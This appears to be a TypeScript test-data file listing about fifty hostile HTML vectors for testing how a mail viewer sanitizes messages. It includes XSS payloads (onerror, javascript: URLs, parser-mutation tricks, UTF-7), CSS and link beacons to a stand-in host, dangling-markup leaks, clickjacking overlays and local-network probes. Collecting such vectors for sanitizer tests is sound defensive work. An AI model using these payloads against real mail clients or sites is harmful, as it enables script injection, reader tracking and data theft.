// Our own pieces of HTML that try to run, to ask somebody for something, or to leave the frame of a mail, each by another
// way of the browser. Data for tests: e2e/hostile-mail.spec.ts shows them in one, with pictures and without.

import { moreVectors } from './more-vectors.ts';

export type Vector = { name: string; html: string };

/** What runs says so by this. */
const run = 'alert(document.domain)';
/** Whoever is asked for something that is not a picture has this host. */
const out = 'https://out.example';
const filled = (html: string) => `<p>Dear reader,</p>${html}<p>Regards</p>`;

const given: [name: string, html: string][] = [
  [
    'style: url in every spelling',
    `<div style="background:u\\72l(${out}/1);list-style:URL('//out.example/2')">x</div>`,
  ],
  ['style: image-set', `<style>p{background:image-set("${out}/a.png" 1x, "${out}/b.png" 2x)}</style>`],
  [
    'style: -webkit-image-set and cross-fade',
    `<p style="background:-webkit-cross-fade(url(${out}/a),url(${out}/b),50%);content:-webkit-image-set(url(${out}/c) 1x)">x</p>`,
  ],
  [
    'style: @import that grows together',
    `<style>@@import "${out}/x";import "${out}/a.css";@im/**/port url(${out}/b.css);@\\69mport "${out}/c";</style>`,
  ],
  [
    'style: @import behind a broken rule',
    `<style>}{;@import url(${out}/late.css);</style><style>@charset "x";@import'${out}/2.css'layer(a) supports(display:grid);</style>`,
  ],
  [
    'style: @font-face with a range',
    `<style>@font-face{font-family:leak;src:url(${out}/f.woff);unicode-range:U+0041-005A}p{font-family:leak}</style><p>AZ</p>`,
  ],
  ['style: ends its element early', `<style><!-- </style><img src=x onerror="${run}"> --></style>`],
  [
    'style: text of attributes',
    `<style>a[href*="secret"]{background:url(${out}/secret)}p:has(a){background:url(${out}/has)}a:visited{background:url(${out}/visited)}</style><a href="https://a.example/secret">a</a>`,
  ],
  [
    'style: cursor, mask, clip path, filter, shape',
    `<p style="cursor:url(${out}/c),auto;mask:url(${out}/m);clip-path:url(${out}/p#a);filter:url(${out}/f#b);shape-outside:url(${out}/s);border-image:url(${out}/b)">x</p>`,
  ],
  [
    'style: custom properties that are put together',
    `<p style="--a:url(${out}/v);--b:var(--a);background:var(--b);background-image:attr(title type(<url>))" title="${out}/attr">x</p>`,
  ],
  [
    'style: old bindings and expressions',
    `<p style="behavior:url(${out}/x.htc);-moz-binding:url(${out}/x.xml#a);width:expression(${run})">x</p>`,
  ],
  [
    'style: @namespace, @document, @property, @layer',
    `<style>@namespace url(${out}/ns);@document url-prefix(""){p{background:url(${out}/d)}}@property --p{syntax:"<image>";inherits:false;initial-value:url(${out}/i)}@layer a{p{background:url(${out}/l)}}</style>`,
  ],
  [
    'style: view transitions and scroll timelines',
    `<style>@view-transition{navigation:auto}::view-transition-old(root){background:url(${out}/vt)}p{view-transition-name:root;animation:k 1s;animation-timeline:scroll()}@keyframes k{to{background:url(${out}/k)}}</style>`,
  ],
  [
    'style: anchored and fixed over everything',
    `<style>a.over{position:fixed!important;inset:-9999px;z-index:2147483647;background:red;display:block;anchor-name:--a;position-anchor:--a;position-area:span-all}</style><a class="over" href="${out}/click">everything</a>`,
  ],
  [
    'style: larger than any frame',
    '<div style="position:absolute;left:-5000px;top:-5000px;width:99999px;height:99999px;background:red;transform:scale(100);outline:9999px solid red;box-shadow:0 0 0 99999px red">x</div>',
  ],
  [
    'style: null bytes and escapes',
    `<style>p{background:u\0rl(${out}/n)}p{background:\\75\\72\\6c(${out}/e)}</style><p style="background:url(&#0;${out}/z)">x</p>`,
  ],
  ['svg: onload', `<svg onload="${run}"><rect width="9999" height="9999"/></svg>`],
  [
    'svg: script, use, image, feImage',
    `<svg><script>${run}</script><use xlink:href="${out}/u.svg#a"/><image href="${out}/i.png"/><filter id="f"><feImage href="${out}/fe.png"/></filter></svg>`,
  ],
  [
    'svg: animate a link into a script',
    `<svg><a><animate attributeName="href" values="javascript:${run}" begin="0s"/><text y="20">click</text></a><set attributeName="onmouseover" to="${run}"/></svg>`,
  ],
  [
    'svg: foreignObject',
    `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.${run}"/></foreignObject></svg>`,
  ],
  [
    'svg: style inside',
    `<svg><style>@import "${out}/svg.css";</style><style><img src=x onerror="${run}"></style></svg>`,
  ],
  [
    'mathml: a link of its own',
    `<math><mtext xlink:href="javascript:${run}" href="javascript:${run}">click</mtext><maction actiontype="statusline#${out}/m">x</maction></math>`,
  ],
  [
    'mutation: mathml, table, style',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></style></mglyph></table></mtext></math>`,
  ],
  [
    'mutation: svg, p, title',
    `<svg></p><title><a id="</title><img src=x onerror=${run}>"></a></title></svg>`,
  ],
  [
    'mutation: noscript in an attribute',
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  ],
  [
    'mutation: form in form',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}></style></mglyph></form></mtext></math>`,
  ],
  [
    'mutation: select, textarea, xmp, template',
    `<select><style></select><img src=x onerror=${run}></style></select><textarea></textarea><xmp></xmp><img src=x onerror=${run}><template><img src=x onerror=${run}></template>`,
  ],
  [
    'mutation: comments that end otherwise',
    `<!--><img src=x onerror=${run}>--><!---!><img src=x onerror=${run}>--><!--x--!><img src=x onerror=${run}>`,
  ],
  [
    'mutation: deep nesting that is cut',
    `${'<div><b><i>'.repeat(400)}<style><a title="</style><img src=x onerror=${run}>">`,
  ],
  [
    'img: srcset, sizes, lazy, lowsrc',
    `<img srcset="${out}/1.png 1x, //out.example/2.png 2x" sizes="100vw" loading="lazy" lowsrc="${out}/low.png" dynsrc="${out}/dyn.avi" longdesc="${out}/long">`,
  ],
  [
    'img: addresses that run',
    `<img src="javascript:${run}"><img src="data:text/html,<script>${run}</script>"><img src="blob:${out}/x"><img src="data:image/svg+xml,<svg onload='${run}'/>">`,
  ],
  [
    'picture: sources',
    `<picture><source srcset="${out}/p.webp" type="image/webp"><source src="${out}/p2"><img alt="x"></picture>`,
  ],
  [
    'video, audio, track, poster',
    `<video poster="${out}/poster.png" src="${out}/v.mp4" autoplay onloadstart="${run}"><source src="${out}/s.mp4" onerror="${run}"><track src="${out}/t.vtt" default></video><audio src="${out}/a.mp3" autoplay onerror="${run}"></audio>`,
  ],
  [
    'input: image, autofocus, formaction',
    `<form action="${out}/post"><input type="image" src="${out}/in.png" onerror="${run}"><input autofocus onfocus="${run}"><button formaction="javascript:${run}">go</button></form><isindex type=image src="${out}/is">`,
  ],
  [
    'form: sends itself',
    `<form id="f" action="${out}/sent" method="post"><input name="a" value="b"></form><button form="f" type="submit">x</button><img src=x onerror="f.submit()">`,
  ],
  [
    'background of everything',
    `<body background="${out}/body.png"><table background="${out}/table.png"><tr background="${out}/tr.png"><td background="${out}/td.png">x</td></tr></table>`,
  ],
  [
    'meta: refresh, policy, viewport',
    `<meta http-equiv="refresh" content="0;url=${out}/meta"><meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="refresh" content="0;javascript:${run}"><meta http-equiv="set-cookie" content="a=b">`,
  ],
  [
    'base: every address elsewhere',
    `<base href="${out}/" target="_top"><img src="relative.png"><a href="relative">x</a><link rel="stylesheet" href="relative.css">`,
  ],
  [
    'link: prefetch, preload, dns, manifest, icon',
    `<link rel="prefetch" href="${out}/1"><link rel="preload" as="image" href="${out}/2"><link rel="dns-prefetch preconnect" href="${out}"><link rel="manifest" href="${out}/3"><link rel="icon" href="${out}/4"><link rel="modulepreload" href="${out}/5"><link rel="stylesheet" href="${out}/6"><link rel="expect" blocking="render" href="#never">`,
  ],
  [
    'a: ping, download, targets, entities',
    `<a href="https://a.example" ping="${out}/ping" download attributionsrc="${out}/attr" target="_top">x</a><a href="jav&#x09;ascript:${run}">1</a><a href="&#1;javascript:${run}">2</a><a href="JaVaScRiPt&colon;${run}">3</a><a href="java\0script:${run}">4</a><a href="vbscript:x">5</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">6</a>`,
  ],
  [
    'iframe: src, srcdoc, fenced, portal',
    `<iframe src="${out}/frame"></iframe><iframe srcdoc="<script>parent.${run}</script><img src='${out}/srcdoc'>"></iframe><fencedframe src="${out}/ff"></fencedframe><portal src="${out}/portal"></portal><frameset><frame src="${out}/fs"></frameset>`,
  ],
  [
    'object, embed, applet, param',
    `<object data="${out}/o"><param name="movie" value="${out}/p"></object><object data="data:text/html,<script>parent.${run}</script>"></object><embed src="${out}/e"><applet code="x" archive="${out}/a.jar"></applet>`,
  ],
  [
    'dialog, popover, invokers',
    `<dialog open style="position:fixed;inset:0;width:9999px;height:9999px;background:red">x</dialog><div popover="auto" id="p" onbeforetoggle="${run}" style="background:red">x</div><button popovertarget="p" popovertargetaction="show" autofocus>x</button><button command="show-popover" commandfor="p" interestfor="p">y</button>`,
  ],
  [
    'details, marquee, animations that call',
    `<details open ontoggle="${run}"><summary>x</summary></details><marquee onstart="${run}" loop="1">x</marquee><style>@keyframes a{from{color:red}}p{animation:a 1ms}</style><p onanimationstart="${run}" ontransitionend="${run}" style="transition:color 1ms">x</p>`,
  ],
  [
    'script: in every disguise',
    `<script>${run}</script><scr\0ipt>${run}</scr\0ipt><script/x src="${out}/s.js"></script><script type="module">import "${out}/m.js"</script><script type="speculationrules">{"prefetch":[{"urls":["${out}/spec"]}]}</script><script type="importmap">{"imports":{"a":"${out}/a"}}</script>`,
  ],
  [
    'attributes: quotes and line breaks that end early',
    `<p title='"><img src=x onerror=${run}>' class="a\nb onmouseover=${run}" style="color:red\n;background:url('${out}/nl')">x</p><img/src="x"/onerror=${run}><img\fsrc=x\fonerror=${run}><p title=\`><img src=x onerror=${run}>\`>`,
  ],
  [
    'custom elements, slots, declared shadows',
    `<div><template shadowrootmode="open"><img src=x onerror="${run}"><style>@import "${out}/shadow.css"</style></template></div><x-a is="b" onclick="${run}" style="background:url(${out}/x)">x</x-a>`,
  ],
  [
    'half tags, half entities, other charsets',
    `<img src="${out}/dangling?<p>text that would be carried away</p><img src='${out}/single?"><a href=${out}/x>y</a>\ufeff<\uff1cscript\uff1e${run}<meta charset="utf-7">+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  ],
  [
    'placeholders a sender could guess',
    `<img src="waiting:https://out.example/w"><img src="waiting-000000000000000000000000:https://out.example/w2"><p style="background:url(waiting:${out}/w3)">x</p>`,
  ],
  [
    'pictures of the reader’s own network, and of ours',
    '<img src="https://127.0.0.1/a.png"><img src="http://[::1]:9/b.png"><img src="https://router.local/c.png"><img src="/api/v1/health"><img src="//localhost/d.png"><img src="https://user:word@out.example/e.png">',
  ],
];

export const hostileVectors: Vector[] = [...given, ...moreVectors].map(([name, html]) => ({
  name,
  html: filled(html),
}));
